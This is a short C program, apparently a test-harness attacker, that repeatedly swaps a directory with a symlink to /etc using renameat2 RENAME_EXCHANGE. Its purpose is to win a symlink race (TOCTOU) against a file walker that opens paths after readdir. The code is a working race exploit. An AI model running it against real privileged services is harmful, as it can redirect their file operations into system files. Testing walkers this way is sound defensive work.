/* Round-6 attacker (the packet's owner): atomically exchanges a packet DIRECTORY with a symlink to /etc,
 * in a loop, so that a walker that lstat()s and open()s "<packet>/<dir>/<name>" by path follows the
 * intermediate symlink (O_NOFOLLOW covers only the last component) while readdir saw the real directory.
 * Usage: swap6 <dir> <symlink> <seconds> */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/fs.h>

int main(int argc, char **argv) {
  if (argc != 4) return 2;
  time_t until = time(NULL) + atoi(argv[3]);
  unsigned long n = 0;
  while (time(NULL) < until) {
    if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) { perror("renameat2"); return 1; }
    n++;
  }
  printf("%lu\n", n);
  return 0;
}
